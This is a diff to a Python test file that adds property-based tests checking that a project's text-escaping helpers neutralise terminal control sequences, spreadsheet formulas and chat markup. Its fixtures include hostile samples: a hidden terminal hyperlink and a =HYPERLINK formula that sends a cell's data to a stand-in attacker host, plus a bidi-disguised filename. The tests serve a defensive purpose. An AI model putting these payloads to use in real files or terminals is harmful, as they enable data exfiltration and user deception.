@@ -9,14 +9,18 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import unicodedata
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from retsync.connector import Page, PullContext, Stream
 from retsync.model import Customer
-from retsync.safe_text import for_chat, for_spreadsheet, for_terminal
+from retsync.safe_text import SPREADSHEET_TRIGGERS, for_chat, for_spreadsheet, for_terminal
 from tests.fakes import ScriptedConnector
 from tests.test_cli import BrokenConnector, _run, config_file  # noqa: F401 - config_file is a fixture
 
@@ -26,6 +30,7 @@ HIDDEN_LINK = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
 BIDI = "\u202egnp.exe"
 C1_CSI = "\x9b31m"
 HOSTILE = CLEAR_SCREEN + WINDOW_TITLE + HIDDEN_LINK + BIDI + C1_CSI
+BIDI_CONTROLS = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")'
 
 
@@ -151,3 +156,16 @@ def test_for_spreadsheet(value: object, cell: object) -> None:
 ])
 def test_for_chat(text: str, escaped: str) -> None:
     assert for_chat(text) == escaped
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200))
+def test_nothing_a_channel_writes_survives_as_a_command(text: str) -> None:
+    """Any text at all: no control character reaches a terminal, no cell opens as a formula, no chat markup."""
+    shown = for_terminal(text)
+    assert not any(unicodedata.category(ch) == "Cc" or ch in BIDI_CONTROLS for ch in shown)
+    assert "\n" not in shown and for_terminal(shown) == shown, "escaping twice changes nothing"
+    lines = for_terminal(text, keep_newlines=True)
+    assert not any(unicodedata.category(ch) == "Cc" and ch not in "\n\t" or ch in BIDI_CONTROLS for ch in lines)
+    assert not for_spreadsheet(text).startswith(SPREADSHEET_TRIGGERS)
+    chat = for_chat(text)
+    assert "<" not in chat and ">" not in chat and not re.search(r"@\w", chat) and "](" not in chat
